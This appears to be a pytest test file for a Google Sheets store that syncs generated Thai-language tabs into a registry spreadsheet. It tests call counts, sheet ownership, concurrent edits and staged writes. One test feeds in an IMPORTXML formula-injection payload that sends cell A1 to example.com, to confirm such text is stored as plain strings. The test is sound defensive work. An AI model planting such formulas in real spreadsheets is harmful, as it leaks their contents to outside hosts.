"""What becomes of the sheets of a spreadsheet: ours keep their place, everything else is left alone."""

import json
from dataclasses import replace

import pytest

from otopsheets.errors import UsageFault
from otopsheets.registry import Broken
from otopsheets.stores import open_registry
from otopsheets.stores.base import Calls, Overtaken
from otopsheets.stores.google import GoogleStore, spreadsheet_id, url_of
from otopsheets.tabs.model import Area, Cell, Tab
from tests.stores.contract import CHECKS, DAY, RICH, STALLS, TRAPS, tab
from tests.stores.google import INPUT, as_person, cells, edited, input_of, session, store, sync, titles


@pytest.fixture
def registry(sheets_api) -> str:
    return sheets_api.create_spreadsheet("ทะเบียน", sheets=INPUT)


def _sheet(server, spreadsheet: str, title: str):
    return next(sheet for sheet in server.book(spreadsheet).sheets if sheet.title == title)


def _methods(server) -> list[str]:
    return [call.method.removeprefix("sheets.spreadsheets.") for call in server.calls]


# --- calls


def test_a_sync_is_three_calls_at_most_and_an_unchanged_one_a_single_one_without_a_write(sheets_api, registry) -> None:
    google = store(sheets_api, registry)
    sync(google, CHECKS, STALLS, RICH)
    assert _methods(sheets_api) == ["get", "batchUpdate"]  # nothing stood there that somebody might have changed
    assert google.calls == Calls(reads=1, writes=1, to_write=1)
    sheets_api.forget_calls()
    google = store(sheets_api, registry)
    sync(google, STALLS)
    assert _methods(sheets_api) == ["get", "get", "batchUpdate"]
    assert google.calls == Calls(reads=2, writes=1, to_write=2)
    sheets_api.forget_calls()
    store(sheets_api, registry).read()
    assert _methods(sheets_api) == ["get"]


def test_with_a_spreadsheet_of_its_own_it_is_no_more(sheets_api, registry) -> None:
    output = sheets_api.create_spreadsheet("ผล")
    for tabs in ((CHECKS, STALLS), (STALLS,)):
        sheets_api.forget_calls()
        google = store(sheets_api, registry, output)
        sync(google, *tabs)
        assert _methods(sheets_api) == ["get", "get", "batchUpdate"]
        assert google.calls == Calls(reads=2, writes=1, to_write=1)
    assert titles(sheets_api, registry) == ["กลุ่ม"]
    assert titles(sheets_api, output)[1:] == ["รายชื่อร้าน"]


def test_many_long_titles_are_asked_for_at_once_and_not_in_the_address(sheets_api, registry) -> None:
    tabs = [tab(f"tab{number}", f"{'ตำบล' * 20} {number}", ["ก"]) for number in range(60)]
    sync(store(sheets_api, registry), *tabs)
    sheets_api.forget_calls()
    sync(store(sheets_api, registry), *(replace(each, color="#ff0000") for each in tabs))
    assert _methods(sheets_api) == ["get", "get", "batchUpdate"]
    assert len(sheets_api.calls[1].query) > 40_000  # no server on the way takes such an address


def test_a_tab_that_is_as_it_should_be_is_not_sent_again(sheets_api, registry) -> None:
    sync(store(sheets_api, registry), CHECKS, STALLS)
    sheets_api.forget_calls()
    sync(store(sheets_api, registry), CHECKS, tab("stalls", "รายชื่อร้าน", ["ล็อก"], ["A2"]))
    body = sheets_api.calls[-1].body.decode()
    assert "A2" in body
    assert "ไม่ยินยอม" not in body


# --- reading


def test_values_are_read_as_they_are_stored(sheets_api) -> None:
    registry = sheets_api.create_spreadsheet(
        "ทะเบียน", sheets={"ก'ข": [["0810000000", 250, 2.5, True, ""], [], ["=1/0", "=1+1", "=NA()"]]}
    )
    start = {"sheetId": sheets_api.book(registry).sheets[0].id, "rowIndex": 1, "columnIndex": 0}
    day = {"userEnteredValue": {"numberValue": 42993}, "userEnteredFormat": {"numberFormat": {"type": "DATE"}}}
    fields = "userEnteredValue,userEnteredFormat"
    as_person(sheets_api, registry, {"updateCells": {"start": start, "rows": [{"values": [day]}], "fields": fields}})
    start = {**start, "rowIndex": 2}
    formulas = [{"userEnteredValue": {"formulaValue": text}} for text in ("=1/0", "=1+1", "=NA()")]
    row = {"start": start, "rows": [{"values": formulas}], "fields": "userEnteredValue"}
    as_person(sheets_api, registry, {"updateCells": row})
    wanted = [["0810000000", 250, 2.5, True], [42993], ["#DIV/0!", 2, "#N/A"]]
    for output in (None, sheets_api.create_spreadsheet("ผล")):
        (sheet,) = store(sheets_api, registry, output).read().sheets
        assert (sheet.title, sheet.rows) == ("ก'ข", wanted)
        assert [type(cell) for cell in sheet.rows[2]] == [Broken, int, Broken]


def test_merges_and_hidden_sheets_are_read_and_drawings_on_sheets_of_their_own_are_not(sheets_api, registry) -> None:
    sheet = sheets_api.book(registry).sheets[0].id
    area = {"sheetId": sheet, "startRowIndex": 0, "endRowIndex": 1, "startColumnIndex": 0, "endColumnIndex": 2}
    as_person(
        sheets_api,
        registry,
        {"mergeCells": {"range": area, "mergeType": "MERGE_ALL"}},
        {"addSheet": {"properties": {"title": "ซ่อน", "hidden": True}}},
    )
    sheets = store(sheets_api, registry).read().sheets
    assert [(found.title, found.merges) for found in sheets] == [("กลุ่ม", ((0, 0, 0, 1),)), ("ซ่อน", ())]


def test_the_name_is_the_title_once_it_was_read(sheets_api, registry) -> None:
    google = store(sheets_api, registry)
    assert google.name == url_of(registry)
    google.read()
    assert google.name == "ทะเบียน"


def test_all_is_read_at_one_moment(sheets_api, registry) -> None:
    """A sheet that comes, goes or changes its name cannot be met half."""
    for output in (None, sheets_api.create_spreadsheet("ผล")):
        sheets_api.forget_calls()
        store(sheets_api, registry, output).read()
        asked = [call.path.rpartition("/")[2] for call in sheets_api.calls]
        assert asked == [registry, *([output] if output else [])]


def test_a_hostile_sheet_is_read_whole(sheets_api) -> None:
    wide, long = [str(number) for number in range(10_000)], "ก" * 50_000
    registry = sheets_api.create_spreadsheet("ทะเบียน", sheets={"กว้าง": [wide], "ยาว": [[long]]})
    rows = [sheet.rows for sheet in store(sheets_api, registry).read().sheets]
    assert rows == [[wide], [[long]]]


@pytest.mark.parametrize(
    ("told", "found"),
    [
        ("https://docs.google.com/spreadsheets/d/1AbC-d_e/edit#gid=0", "1AbC-d_e"),
        ("https://docs.google.com/spreadsheets/u/1/d/1AbC-d_e/edit?usp=sharing", "1AbC-d_e"),
        ("1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms", "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"),
        ("https://docs.google.com/spreadsheets/d/e/2PACX-1vT_x/pubhtml", None),
        (
            "https://drive.google.com/open?usp=x&id=1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs",
            "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs",
        ),
        ("https://drive.google.com/file/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs/view", "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs"),
        ("https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs/edit", None),
        ("ทะเบียน.xlsx", None),
        ("registry.xlsx", None),
        ("https://example.com/x", None),
    ],
)
def test_a_spreadsheet_is_named_by_its_link_or_its_id(told, found) -> None:
    assert spreadsheet_id(told) == found


@pytest.mark.parametrize("output", [None, "x.xlsx"])
def test_a_link_to_something_else_is_not_taken_for_a_file(output) -> None:
    for link in ("https://docs.google.com/forms/d/x/edit", "http://example.com/registry.xlsx"):
        with pytest.raises(UsageFault, match="ไม่ใช่ลิงก์สเปรดชีต"):
            open_registry(*((link, output) if output is None else (output, link)))


def test_the_output_may_not_be_the_registry(sheets_api) -> None:
    with pytest.raises(UsageFault, match="ต้องไม่ใช่ทะเบียนเอง"):
        GoogleStore(session(sheets_api), "a", "a")


# --- whose sheet it is


def test_a_sheet_of_the_same_title_that_is_not_ours_is_left_alone(sheets_api) -> None:
    registry = sheets_api.create_spreadsheet("ทะเบียน", sheets={**INPUT, "ผลตรวจสอบ": [["ของฉัน"]]})
    before = input_of(sheets_api, registry, ["กลุ่ม", "ผลตรวจสอบ"])
    for _ in range(2):
        sync(store(sheets_api, registry), CHECKS)
    assert titles(sheets_api, registry) == ["กลุ่ม", "ผลตรวจสอบ", "ผลตรวจสอบ (otopsheets)"]
    assert input_of(sheets_api, registry, ["กลุ่ม", "ผลตรวจสอบ"]) == before


def test_ours_keeps_its_place_its_id_and_its_title_when_people_move_and_rename_it(sheets_api, registry) -> None:
    sync(store(sheets_api, registry), CHECKS, STALLS)
    sheet = _sheet(sheets_api, registry, "ผลตรวจสอบ").id
    properties = {"sheetId": sheet, "title": "ผลของเรา", "index": 0}
    as_person(sheets_api, registry, {"updateSheetProperties": {"properties": properties, "fields": "title,index"}})
    printed = store(sheets_api, registry).read().printed["checks"]
    assert (printed.title, printed.edited) == ("ผลของเรา", False)
    sync(store(sheets_api, registry), tab("checks", "ผลตรวจสอบ", ["ใหม่"]), STALLS)
    assert titles(sheets_api, registry) == ["ผลของเรา", "กลุ่ม", "รายชื่อร้าน"]
    assert _sheet(sheets_api, registry, "ผลของเรา").id == sheet
    assert cells(sheets_api, registry, "ผลของเรา") == [["ใหม่"]]


def test_a_hidden_tab_that_formulas_name_gets_its_title_back(sheets_api, registry) -> None:
    answers = Tab("lookup", "ผลรายแถว", ((Cell("ก"),),), hidden=True)
    sync(store(sheets_api, registry), answers)
    sheet = _sheet(sheets_api, registry, "ผลรายแถว")
    assert sheet.properties["hidden"]
    properties = {"sheetId": sheet.id, "title": "อื่น"}
    as_person(sheets_api, registry, {"updateSheetProperties": {"properties": properties, "fields": "title"}})
    google = store(sheets_api, registry)
    assert google.read().printed["lookup"].edited
    assert google.write([answers], DAY).kept == ()
    assert titles(sheets_api, registry) == ["กลุ่ม", "ผลรายแถว"]


def test_a_copy_that_somebody_made_of_ours_is_neither_ours_nor_input(sheets_api, registry) -> None:
    sync(store(sheets_api, registry), CHECKS)
    sheet = _sheet(sheets_api, registry, "ผลตรวจสอบ").id
    copy = {"sourceSheetId": sheet, "newSheetName": "สำเนาของ ผลตรวจสอบ", "insertSheetIndex": 0}
    as_person(sheets_api, registry, {"duplicateSheet": copy})
    snapshot = store(sheets_api, registry).read()
    assert [found.title for found in snapshot.sheets] == ["กลุ่ม"]
    sync(store(sheets_api, registry), tab("checks", "ผลตรวจสอบ", ["ใหม่"]))
    assert cells(sheets_api, registry, "ผลตรวจสอบ") == [["ใหม่"]]
    assert cells(sheets_api, registry, "สำเนาของ ผลตรวจสอบ")[1] == ["ห้าม", "ไม่ยินยอม"]


def test_what_somebody_else_noted_on_a_sheet_does_not_make_it_ours(sheets_api, registry) -> None:
    sheet = _sheet(sheets_api, registry, "กลุ่ม").id
    for key, value in (("other", "x"), ("otopsheets.tab", "no json"), ("otopsheets.tab", "{}")):
        entry = {"metadataKey": key, "metadataValue": value, "location": {"sheetId": sheet}, "visibility": "DOCUMENT"}
        as_person(sheets_api, registry, {"createDeveloperMetadata": {"developerMetadata": entry}})
    before = cells(sheets_api, registry, "กลุ่ม")
    sync(store(sheets_api, registry), CHECKS)
    assert dict(store(sheets_api, registry).read().printed).keys() == {"checks"}
    assert cells(sheets_api, registry, "กลุ่ม") == before


def test_dated_copies_of_one_day_are_numbered_and_stay(sheets_api, registry) -> None:
    for text in ("หนึ่ง", "สอง"):
        sync(store(sheets_api, registry), CHECKS)
        as_person(sheets_api, registry, edited(_sheet(sheets_api, registry, "ผลตรวจสอบ").id, 1, 1, text))
    sync(store(sheets_api, registry), CHECKS)
    assert titles(sheets_api, registry)[2:] == ["ผลตรวจสอบ 2017-09-05", "ผลตรวจสอบ 2017-09-05 (2)"]
    kept = [cells(sheets_api, registry, title)[1][1] for title in titles(sheets_api, registry)[2:]]
    assert kept == ["หนึ่ง", "สอง"]


def test_an_edited_tab_that_is_no_longer_wanted_is_kept_before_it_goes(sheets_api, registry) -> None:
    sync(store(sheets_api, registry), CHECKS, STALLS)
    as_person(sheets_api, registry, edited(_sheet(sheets_api, registry, "ผลตรวจสอบ").id, 1, 1, "แก้"))
    sync(store(sheets_api, registry), STALLS)
    assert titles(sheets_api, registry) == ["กลุ่ม", "รายชื่อร้าน", "ผลตรวจสอบ 2017-09-05"]


def test_people_are_warned_before_they_change_a_generated_tab(sheets_api, registry) -> None:
    sync(store(sheets_api, registry), CHECKS)
    (guard,) = _sheet(sheets_api, registry, "ผลตรวจสอบ").protected_ranges
    assert guard["warningOnly"]


# --- what is written


def _as_it_is(server, spreadsheet: str, title: str) -> str:
    """Everything the server holds of a sheet that is not a number it gave out."""
    sheet = _sheet(server, spreadsheet, title)
    told = {
        "grid": sheet.properties["gridProperties"],
        "color": sheet.properties.get("tabColorStyle"),
        "cells": sorted((place, repr(cell)) for place, cell in sheet.cells.items()),
        "merges": sheet.merges,
        "columns": [sheet.column_metadata.get(at, {}).get("pixelSize", 100) for at in range(sheet.columns)],
        "rows": [sheet.row_metadata.get(at, {}).get("pixelSize", 21) for at in range(sheet.rows)],
        "filter": sheet.basic_filter,
        "charts": [(chart["spec"], chart["position"]) for chart in sheet.charts],
        "rules": sheet.conditional_formats,
        "bandings": sheet.banded_ranges,
    }
    return json.dumps(told, ensure_ascii=False, default=str).replace(str(sheet.id), "ID")


def test_over_another_tab_a_tab_looks_as_if_it_were_new(sheets_api, registry) -> None:
    sync(store(sheets_api, registry), RICH)
    new = _as_it_is(sheets_api, registry, "สรุป")
    other = tab("summary", "สรุป", *[[str(number)] * 9 for number in range(50)])
    sync(store(sheets_api, registry), other)
    sheet = _sheet(sheets_api, registry, "สรุป").id
    area = {"sheetId": sheet, "startRowIndex": 1, "endRowIndex": 3, "startColumnIndex": 0, "endColumnIndex": 2}
    condition = {"type": "NOT_BLANK"}
    rule = {"ranges": [area], "booleanRule": {"condition": condition, "format": {"textFormat": {"bold": True}}}}
    banding = {"range": area, "rowProperties": {"firstBandColor": {"red": 1}, "secondBandColor": {"red": 0.5}}}
    as_person(
        sheets_api,
        registry,
        {"mergeCells": {"range": area, "mergeType": "MERGE_ALL"}},
        {"addConditionalFormatRule": {"rule": rule, "index": 0}},
        {"addConditionalFormatRule": {"rule": rule, "index": 0}},
        {"addBanding": {"bandedRange": banding}},
        {"setDataValidation": {"range": area, "rule": {"condition": condition}}},
        {"setBasicFilter": {"filter": {"range": {"sheetId": sheet, "startRowIndex": 3, "endRowIndex": 4}}}},
    )
    sync(store(sheets_api, registry), RICH)
    assert _as_it_is(sheets_api, registry, "สรุป") == new


def test_rows_merged_over_the_same_columns_stay_rows(sheets_api, registry) -> None:
    """Three rows below each other, one apart, and a block: told in three requests, merged one by one."""
    merges = (*(Area(row, 0, row, 2) for row in (0, 1, 2, 5)), Area(3, 1, 4, 2))
    sync(store(sheets_api, registry), replace(RICH, merges=merges, filtered=None, heights={}, frozen=(0, 0)))
    merged = {
        (area["startRowIndex"], area["endRowIndex"], area["startColumnIndex"], area["endColumnIndex"])
        for area in _sheet(sheets_api, registry, "สรุป").merges
    }
    assert merged == {(0, 1, 0, 3), (1, 2, 0, 3), (2, 3, 0, 3), (5, 6, 0, 3), (3, 5, 1, 3)}


def test_colours_follow_what_people_type(sheets_api, registry) -> None:
    """Each in its order; the fill is Google's, so that a tick typed on the phone is coloured at once."""
    sync(store(sheets_api, registry), RICH)
    rules = _sheet(sheets_api, registry, "สรุป").conditional_formats
    said = [rule["booleanRule"]["condition"]["values"][0]["userEnteredValue"] for rule in rules]
    assert said == ["รับ", "รอ"]
    assert [rule["booleanRule"]["condition"]["type"] for rule in rules] == ["TEXT_EQ", "TEXT_EQ"]
    (area,) = rules[0]["ranges"]
    assert (area["startRowIndex"], area["endRowIndex"], area["startColumnIndex"], area["endColumnIndex"]) == (
        2,
        4,
        0,
        1,
    )


def test_charts_are_native_and_take_the_names_of_their_series_from_the_sheet(sheets_api, registry) -> None:
    sync(store(sheets_api, registry), RICH)
    bar, column, pie, line = (chart["spec"] for chart in _sheet(sheets_api, registry, "สรุป").charts)
    assert [spec["title"] for spec in (bar, column, pie, line)] == ["ผล"] * 4
    assert (bar["basicChart"]["chartType"], bar["basicChart"]["headerCount"]) == ("BAR", 1)
    assert column["basicChart"]["stackedType"] == "STACKED"
    assert column["basicChart"]["legendPosition"] == "BOTTOM_LEGEND"
    assert "pieChart" in pie
    assert line["basicChart"].get("headerCount", 0) == 0  # nothing before the values says what they are called


def test_looks_are_told_once_for_an_area_and_not_for_every_cell(sheets_api, registry) -> None:
    rows = [[f"กลุ่มที่ {number}", number, "รับ"] for number in range(400)]
    sync(store(sheets_api, registry), tab("selection", "ผลคัดเลือก", ["กลุ่ม", "ที่", "ผล"], *rows))
    requests = json.loads(sheets_api.calls[-1].body)["requests"]
    fields = [request["repeatCell"]["fields"] for request in requests if "repeatCell" in request]
    assert [name.partition(".")[0] for name in fields] == ["userEnteredValue", "userEnteredFormat", "userEnteredFormat"]
    assert sheets_api.calls[-1].size < 58_000


def test_no_text_ever_becomes_a_formula(sheets_api, registry) -> None:
    columns = [TRAPS, [f'=IMPORTXML("https://example.com/?"&A1,"//a") {n}' for n in range(len(TRAPS))]]
    sync(store(sheets_api, registry), tab("checks", "ผลตรวจสอบ", *map(list, zip(*columns, strict=True))))
    stored = [cell.value for cell in _sheet(sheets_api, registry, "ผลตรวจสอบ").cells.values() if cell.value]
    assert len(stored) == 2 * len(TRAPS)
    assert {next(iter(value)) for value in stored} == {"stringValue"}


def test_the_longest_cell_is_written(sheets_api, registry) -> None:
    sync(store(sheets_api, registry), tab("checks", "ผลตรวจสอบ", ["ก" * 60_000]))
    assert not store(sheets_api, registry).read().printed["checks"].edited


def test_an_empty_tab_is_a_sheet_too(sheets_api, registry) -> None:
    sync(store(sheets_api, registry), Tab("memo", "บันทึก", ()))
    assert cells(sheets_api, registry, "บันทึก") == []


# --- others at the same time


def test_what_a_chair_types_during_a_sync_stays(sheets_api, registry) -> None:
    google = store(sheets_api, registry)
    google.read()
    sheet = _sheet(sheets_api, registry, "กลุ่ม").id
    as_person(sheets_api, registry, edited(sheet, 2, 0, "จักสาน"))
    google.write([CHECKS], DAY)
    assert cells(sheets_api, registry, "กลุ่ม") == [*INPUT["กลุ่ม"], ["จักสาน"]]


def test_of_two_officers_the_second_notices_and_has_written_nothing(sheets_api, registry) -> None:
    first, second = store(sheets_api, registry), store(sheets_api, registry)
    first.read()
    second.read()
    first.write([CHECKS], DAY)
    with pytest.raises(Overtaken):
        second.write([STALLS], DAY)
    assert titles(sheets_api, registry) == ["กลุ่ม", "ผลตรวจสอบ"]
    sync(second, STALLS)
    assert titles(sheets_api, registry) == ["กลุ่ม", "รายชื่อร้าน"]


def test_the_second_notices_however_many_came_in_between(sheets_api, registry) -> None:
    slow = store(sheets_api, registry)
    slow.read()
    for number in range(5):
        sync(store(sheets_api, registry), tab("checks", "ผลตรวจสอบ", [str(number)]))
    with pytest.raises(Overtaken):
        slow.write([STALLS], DAY)


def test_old_runs_are_forgotten(sheets_api, registry) -> None:
    for number in range(30):
        sync(store(sheets_api, registry), tab("checks", "ผลตรวจสอบ", [str(number)]))
    runs = [e for e in sheets_api.book(registry).developer_metadata if e["metadataKey"] == "otopsheets.run"]
    assert 20 <= len(runs) <= 21


def test_a_generated_sheet_deleted_between_reading_and_writing_is_noticed(sheets_api, registry) -> None:
    sync(store(sheets_api, registry), CHECKS)
    google = store(sheets_api, registry)
    google.read()
    as_person(sheets_api, registry, {"deleteSheet": {"sheetId": _sheet(sheets_api, registry, "ผลตรวจสอบ").id}})
    with pytest.raises(Overtaken):
        google.write([tab("checks", "ผลตรวจสอบ", ["ใหม่"])], DAY)
    sync(google, CHECKS)
    assert titles(sheets_api, registry) == ["กลุ่ม", "ผลตรวจสอบ"]


@pytest.mark.parametrize(
    "meanwhile",
    [
        {"deleteSheet": {"sheetId": 7}},
        {"addSheet": {"properties": {"title": "ผลตรวจสอบ"}}},
        {"updateSheetProperties": {"properties": {"sheetId": 7, "title": "ผลตรวจสอบ"}, "fields": "title"}},
    ],
    ids=["deleted", "added under our title", "renamed to our title"],
)
def test_sheets_that_people_change_between_reading_and_writing_are_noticed(sheets_api, registry, meanwhile) -> None:
    as_person(sheets_api, registry, {"addSheet": {"properties": {"title": "อื่น", "sheetId": 7}}})
    google = store(sheets_api, registry)
    google.read()
    before = input_of(sheets_api, registry)
    as_person(sheets_api, registry, meanwhile)
    theirs = titles(sheets_api, registry)
    with pytest.raises(Overtaken):
        google.write([CHECKS], DAY)
    assert titles(sheets_api, registry) == theirs
    sync(google, CHECKS)
    assert titles(sheets_api, registry)[:-1] == theirs
    assert input_of(sheets_api, registry) == before


def test_writing_without_having_read_reads_first(sheets_api, registry) -> None:
    store(sheets_api, registry).write([CHECKS], DAY)
    assert titles(sheets_api, registry) == ["กลุ่ม", "ผลตรวจสอบ"]


# --- more than one request holds


LARGE = tab("selection", "ผลคัดเลือก", *[[f"แถว {n}", "=ข้อความ", n, n / 7] for n in range(300)])
NOTED = replace(LARGE, key="stalls", title="ร้าน", cells=((Cell("ก", note="หมายเหตุ"),), *LARGE.cells))


@pytest.mark.parametrize("large", [LARGE, NOTED])
def test_a_large_tab_is_staged_and_ends_as_if_it_were_not(sheets_api, registry, large) -> None:
    sync(store(sheets_api, registry), large)
    whole = _as_it_is(sheets_api, registry, large.title)
    other = sheets_api.create_spreadsheet("อีกอัน", sheets=INPUT)
    sheets_api.forget_calls()
    google = store(sheets_api, other, limit=8000)
    sync(google, large)
    assert _as_it_is(sheets_api, other, large.title) == whole
    assert titles(sheets_api, other) == ["กลุ่ม", large.title]
    assert google.calls.writes > 3
    assert all(call.size <= 8500 for call in sheets_api.calls)


def test_only_as_much_is_staged_as_has_to_be(sheets_api, registry) -> None:
    google = store(sheets_api, registry, limit=20_000)
    sync(google, CHECKS, LARGE, STALLS)
    bodies = [call.body.decode() for call in sheets_api.calls if call.kind == "write"]
    assert "ไม่ยินยอม" in bodies[-1]
    assert all("ไม่ยินยอม" not in body for body in bodies[:-1])


@pytest.mark.parametrize("killed_at", range(5))
def test_a_run_killed_while_staging_leaves_the_old_result_and_the_next_cleans_up(
    sheets_api, registry, killed_at
) -> None:
    sync(store(sheets_api, registry), CHECKS)
    shown = cells(sheets_api, registry, "ผลตรวจสอบ")
    google = store(sheets_api, registry, limit=8000)
    google.read()
    write, left = google.session.write, [killed_at]

    def killed(*told, **more):
        if not left[0]:
            raise KeyboardInterrupt
        left[0] -= 1
        write(*told, **more)

    google.session.write = killed
    with pytest.raises(KeyboardInterrupt):
        google.write([CHECKS, LARGE], DAY)
    visible = [s.title for s in sheets_api.book(registry).sheets if not s.properties.get("hidden")]
    assert visible == ["กลุ่ม", "ผลตรวจสอบ"]
    assert cells(sheets_api, registry, "ผลตรวจสอบ") == shown
    assert [sheet.title for sheet in store(sheets_api, registry).read().sheets] == ["กลุ่ม"]
    sync(store(sheets_api, registry), tab("checks", "ผลตรวจสอบ", ["ใหม่"]))
    assert titles(sheets_api, registry) == ["กลุ่ม", "ผลตรวจสอบ"]


@pytest.mark.parametrize("at", range(6))
@pytest.mark.parametrize("trouble", [503, "reset_before", "reset_after"])
def test_staging_too_is_done_exactly_once(sheets_api, registry, trouble, at) -> None:
    sheets_api.fail_next(trouble, match=":batchUpdate", skip=at)
    sync(store(sheets_api, registry, limit=8000), CHECKS, LARGE)
    assert titles(sheets_api, registry) == ["กลุ่ม", "ผลตรวจสอบ", "ผลคัดเลือก"]
    assert not store(sheets_api, registry).read().printed["selection"].edited
